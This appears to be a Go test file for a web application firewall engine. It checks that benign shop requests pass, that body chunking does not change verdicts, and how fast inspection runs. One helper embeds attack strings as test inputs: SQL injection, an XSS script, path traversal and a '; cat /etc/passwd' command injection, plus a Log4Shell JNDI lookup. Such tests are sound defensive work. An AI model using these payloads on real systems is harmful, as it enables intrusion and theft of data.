package engine

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/gabionhq/gabion/engine/rule"
)

// A request is a whole request as tests write it.
type request struct {
	method, target string
	fields         []string // name, value, name, value ...
	body           string
}

func (r *request) head() *Head {
	h := &Head{Method: []byte(r.method), Target: []byte(r.target), Host: []byte("shop.example"), Scheme: []byte("https"), Proto: []byte("HTTP/1.1")}
	for i := 0; i < len(r.fields); i += 2 {
		h.Header = append(h.Header, HeaderField{Name: []byte(r.fields[i]), Value: []byte(r.fields[i+1])})
	}
	return h
}

var browser = []string{
	"Host", "shop.example",
	"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
	"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
	"Accept-Language", "en-US,en;q=0.5",
	"Accept-Encoding", "gzip, deflate, br, zstd",
	"Referer", "https://shop.example/catalog?page=2",
	"Connection", "keep-alive",
	"Cookie", "session=7f3c9a1e5b2d4860; theme=dark",
}

func jsonBody() string {
	var b strings.Builder
	b.WriteString(`{"cart":{"id":"c-1029","items":[`)
	for i := range 12 {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"sku":"SKU-%04d","name":"Oak side table, natural finish","qty":%d,"price":%d.50,"tags":["wood","table"],"gift":false}`, i*37, i%3+1, 40+i)
	}
	b.WriteString(`]},"note":"Please leave the parcel at the back door, thank you!"}`)
	return b.String()
}

var (
	benignGet  = request{"GET", "/catalog/search.html?q=oak+side+table&page=2&sort=price_asc&color=natural&max=250", browser, ""}
	benignForm = request{"POST", "/account/profile", append([]string{"Content-Type", "application/x-www-form-urlencoded"}, browser...),
		"name=Ada+Lovelace&street=12+St+James+Square&city=London&zip=SW1Y+4JH&phone=%2B44+20+7946+0000&about=" + strings.Repeat("I+like+engines+and+numbers.+", 8)}
	benignJSON = request{"POST", "/api/v1/cart", append([]string{"Content-Type", "application/json"}, browser...), jsonBody()}
)

// expect sends a request and reports a decision that is not the wanted one, with
// what it follows from.
func expect(t *testing.T, e *Engine, r *request, want Decision, what string) {
	t.Helper()
	verdict, rep := inspect(e, nil, Env{Mode: rule.Block}, r, whole)
	if verdict.Decision == want {
		return
	}
	t.Errorf("%q: decision %d with %.2f, want %d", what, verdict.Decision, verdict.Score, want)
	for _, f := range rep.Findings {
		t.Logf("  %s %.2f at %s: %.60q: %s", f.Class, f.Weight, f.Point, f.Value[f.From:f.To], f.Reason)
	}
}

// inspect runs a request, its body in chunks of the given sizes.
func inspect(e *Engine, set *rule.Set, env Env, r *request, chunk func() int) (Verdict, *Report) {
	tx := e.Begin(set, env)
	defer tx.Close()
	tx.Headers(r.head())
	for body := []byte(r.body); len(body) > 0; {
		n := min(max(chunk(), 1), len(body))
		// The chunk is only borrowed: what comes after the call is none of the engine's business.
		own := bytes.Clone(body[:n])
		tx.Body(own)
		clear(own)
		body = body[n:]
	}
	v := tx.End()
	rep := *tx.Report()
	rep.Findings = append([]Finding(nil), rep.Findings...)
	rep.Limits = append([]string(nil), rep.Limits...)
	rep.Values = append([]Value(nil), rep.Values...)
	for i := range rep.Values {
		rep.Values[i].Point = bytes.Clone(rep.Values[i].Point)
	}
	return v, &rep
}

func whole() int { return 1 << 30 }

func TestBenignPass(t *testing.T) {
	e := New(Options{})
	for _, r := range []*request{&benignGet, &benignForm, &benignJSON} {
		v, rep := inspect(e, nil, Env{Mode: rule.Block}, r, whole)
		if v.Decision != Pass || v.Score > 0.3 || len(rep.Findings) > 0 {
			t.Errorf("%s %s: %+v %+v", r.method, r.target, v, rep.Findings)
		}
	}
}

func TestBenignAllocatesNothing(t *testing.T) {
	e := New(Options{})
	for _, r := range []*request{&benignGet, &benignForm, &benignJSON} {
		h, body := r.head(), []byte(r.body)
		for _, env := range []Env{{Mode: rule.Block}, {Mode: rule.Block, Observe: true}} {
			n := testing.AllocsPerRun(200, func() {
				tx := e.Begin(nil, env)
				tx.Headers(h)
				tx.Body(body)
				tx.End()
				tx.Report()
				tx.Close()
			})
			if n > 0 {
				t.Errorf("%s %s: %v allocations, observe %v", r.method, r.target, n, env.Observe)
			}
		}
	}
}

// hostile returns bodies that exercise every parser, some longer than a
// window, with an attack at a random place.
func hostile(rnd *rand.Rand) *request {
	attack := []string{"1' UNION SELECT password FROM users--", "<script>alert(1)</script>", "../../../../etc/passwd", "; cat /etc/passwd", "${jndi:ldap://x.example/a}"}[rnd.IntN(5)]
	pad := func() string { return strings.Repeat("lorem ipsum dolor ", rnd.IntN(6000)) }
	r := &request{method: "POST", target: "/x?y=1"}
	switch rnd.IntN(6) {
	case 0:
		r.fields = []string{"Content-Type", "application/json"}
		r.body = fmt.Sprintf(`{"a":%q,"b":[{"c":%q},%q],"d":%q}`, pad(), attack, pad(), pad())
	case 1:
		r.fields = []string{"Content-Type", "application/x-www-form-urlencoded"}
		r.body = "a=" + strings.ReplaceAll(pad(), " ", "+") + "&b=" + strings.ReplaceAll(attack, " ", "%20") + "&a=" + strings.ReplaceAll(pad(), " ", "+")
	case 2:
		r.fields = []string{"Content-Type", "text/xml"}
		r.body = "<r><a>" + pad() + "</a><b>" + strings.ReplaceAll(attack, "<", "&lt;") + "</b><!--" + pad() + "--><c><![CDATA[" + pad() + "]]></c></r>"
	case 3:
		r.fields = []string{"Content-Type", "multipart/form-data; boundary=XX"}
		r.body = "--XX\r\nContent-Disposition: form-data; name=a; filename=b.txt\r\n\r\n" + pad() + "\r\n--XX\r\nContent-Disposition: form-data; name=c\r\n\r\n" + attack + "\r\n--XX--\r\n"
	case 4:
		r.body = pad() + attack + pad()
	case 5:
		r.fields = []string{"Content-Type", "application/json"}
		r.body = `{"a":"` + pad() + attack + pad() + `"}`
	}
	return r
}

func TestSplitsDoNotMatter(t *testing.T) {
	e := New(Options{})
	rnd := rand.New(rand.NewPCG(1, 2))
	attacks := 0
	for i := range 60 {
		r := hostile(rnd)
		env := Env{Mode: rule.Block, Observe: true}
		v, rep := inspect(e, nil, env, r, whole)
		if v.Attack {
			attacks++
		}
		for range 3 {
			size := 1 << rnd.IntN(18)
			v2, rep2 := inspect(e, nil, env, r, func() int { return 1 + rnd.IntN(size) })
			if d := cmp.Diff(rep, rep2); v != v2 || d != "" {
				t.Fatalf("request %d, chunks up to %d: %+v and %+v\n%s", i, size, v, v2, d)
			}
		}
	}
	if attacks < 30 {
		t.Errorf("%d of 60 requests with an attack are seen as one", attacks)
	}
}

func benchmark(b *testing.B, r *request) {
	e := New(Options{})
	h, body := r.head(), []byte(r.body)
	b.ReportAllocs()
	b.SetBytes(int64(len(r.body) + len(r.target)))
	for b.Loop() {
		tx := e.Begin(nil, Env{Mode: rule.Block})
		tx.Headers(h)
		for rest := body; len(rest) > 0; {
			n := min(len(rest), 32<<10)
			tx.Body(rest[:n])
			rest = rest[n:]
		}
		tx.End()
		tx.Close()
	}
}

func BenchmarkGet(b *testing.B)  { benchmark(b, &benignGet) }
func BenchmarkForm(b *testing.B) { benchmark(b, &benignForm) }
func BenchmarkJSON(b *testing.B) { benchmark(b, &benignJSON) }

func BenchmarkBody16M(b *testing.B) {
	r := request{"POST", "/upload", []string{"Content-Type", "application/json"}, "[" + strings.Repeat(jsonBody()+",", 16<<20/len(jsonBody())) + "1]"}
	benchmark(b, &r)
}
